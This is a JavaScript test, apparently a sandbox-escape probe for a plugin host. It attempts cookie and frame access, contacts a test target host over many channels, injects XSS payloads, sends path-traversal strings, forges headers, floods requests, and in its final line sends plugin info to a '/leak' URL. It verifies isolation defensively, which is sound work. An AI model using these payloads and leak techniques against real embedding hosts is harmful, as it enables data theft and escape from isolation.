// Tries everything that a plugin's own page must not be able to do, and reports what came of it.
export default async function (root, edge) {
  const found = {}, heard = [];
  const target = (await edge.fetch("target")).json().url;
  const attempt = async (name, action) => {
    try { found[name] = `did: ${String(await action()).slice(0, 120)}`; } catch (error) { found[name] = `refused: ${error.message || error}`; }
  };
  const within = (promise) => Promise.race([promise, new Promise((_, no) => setTimeout(() => no(new Error("nothing came of it")), 1500))]);
  const loads = (element, name, value) => within(new Promise((yes, no) => {
    element.onload = () => yes("loaded");
    element.onerror = () => no(new Error("blocked"));
    element[name] = value;
    document.body.append(element);
  }));
  edge.onNotification((told) => heard.push(told));

  await attempt("cookie", () => document.cookie);
  await attempt("localStorage", () => localStorage.length);
  await attempt("indexedDB", () => within(new Promise((yes, no) => { const r = indexedDB.open("x"); r.onsuccess = yes; r.onerror = () => no(r.error); })));
  await attempt("origin", () => { if (self.origin !== "null") return self.origin; throw new Error("null"); });
  await attempt("parent.document", () => parent.document.title);
  await attempt("parent.who", () => parent.who.name);
  await attempt("top.location.href", () => top.location.href);
  await attempt("top.location =", () => { top.location = `${target}/top`; return "set"; });
  await attempt("frameElement", () => { if (window.frameElement) return "there"; throw new Error("none"); });
  await attempt("open", () => { if (window.open(`${target}/open`)) return "opened"; throw new Error("null"); });
  await attempt("alert", () => { if (window.confirm("x")) return "confirmed"; throw new Error("no dialog"); });
  await attempt("fetch other host", () => fetch(`${target}/fetch`, {mode: "no-cors"}));
  await attempt("fetch bridge", () => fetch(new URL("../edges", location.href), {credentials: "include"}));
  await attempt("xhr", () => within(new Promise((yes, no) => { const x = new XMLHttpRequest(); x.onload = () => yes(x.status); x.onerror = () => no(new Error("blocked")); x.open("GET", `${target}/xhr`); x.send(); })));
  await attempt("beacon", () => { navigator.sendBeacon(`${target}/beacon`, "x"); throw new Error("see the target"); });
  await attempt("websocket", () => within(new Promise((yes, no) => { const w = new WebSocket(`${target.replace("http", "ws")}/ws`); w.onopen = yes; w.onerror = () => no(new Error("blocked")); })));
  await attempt("eventsource", () => within(new Promise((yes, no) => { const s = new EventSource(`${target}/sse`); s.onopen = yes; s.onerror = () => no(new Error("blocked")); })));
  await attempt("image", () => loads(new Image(), "src", `${target}/image`));
  await attempt("script", () => loads(document.createElement("script"), "src", `${target}/script`));
  await attempt("import", () => import(`${target}/import`));
  await attempt("worker", () => within(new Promise((yes, no) => { const w = new Worker(`${target}/worker`); w.onmessage = yes; w.onerror = () => no(new Error("blocked")); })));
  await attempt("inline handler", () => { root.innerHTML = "<img src=x onerror='document.title=\"ran\"'>"; return within(new Promise((yes, no) => setTimeout(() => document.title === "ran" ? yes("ran") : no(new Error("did not run")), 300))); });
  await attempt("eval", () => eval("1+1"));
  await attempt("frame", () => { const f = document.createElement("iframe"); f.src = `${target}/frame`; document.body.append(f); throw new Error("see the target"); });
  await attempt("stylesheet", () => { const l = document.createElement("link"); l.rel = "stylesheet"; return loads(l, "href", `${target}/css`); });
  await attempt("prefetch", () => { const l = document.createElement("link"); l.rel = "prefetch"; return loads(l, "href", `${target}/prefetch`); });
  await attempt("css url", () => { document.body.style.background = `url(${target}/background)`; throw new Error("see the target"); });
  await attempt("form", () => { const f = document.createElement("form"); f.action = `${target}/form`; document.body.append(f); f.submit(); throw new Error("see the target"); });
  await attempt("rtc", () => new RTCPeerConnection({iceServers: [{urls: `stun:${new URL(target).host}`}]}));
  for (const path of ["../markup/rows", "%2e%2e/markup/rows", ".%2e/markup/rows", "..%2fmarkup%2frows", "x/../../markup/rows", "x/%2E%2E/%2e%2e/markup/rows",
                      "/edges", "//127.0.0.1/edges", "..\\markup\\rows", "%5c..%5cmarkup", "http://127.0.0.1/", "\t../markup/rows", "x\n/../../markup/rows", "", "%00", "%zz", "?x", "#", "."])
    await attempt(`path ${JSON.stringify(path)}`, async () => (await edge.fetch(path)).status);
  await attempt("method", async () => (await edge.fetch("target", {method: "PATCH"})).status);
  await attempt("header", async () => { const told = (await edge.fetch("report", {method: "POST", body: "{}", headers: {Authorization: "Bearer x", Cookie: "a=b"}})).json(); if (told.authorization) return told.authorization; throw new Error("not sent"); });
  await attempt("flood", async () => { const all = await Promise.allSettled(Array.from({length: 200}, () => edge.fetch("target"))); if (all.every((one) => one.status === "fulfilled")) return "all"; throw new Error("bounded"); });
  await attempt("flash", () => edge.flash("<img src=x onerror=window.pwned=1>", "<b>"));
  for (const message of ["ready", {id: 1, kind: "fetch", value: {path: "../markup/rows"}}, {topic: "topology", data: {edges: {}}}]) parent.postMessage(message, "*");
  await new Promise((yes) => setTimeout(yes, 800));
  await edge.fetch("report", {method: "POST", body: JSON.stringify({found, heard})});
  location.href = `${target}/leak?${encodeURIComponent(JSON.stringify(edge.info))}`;
}
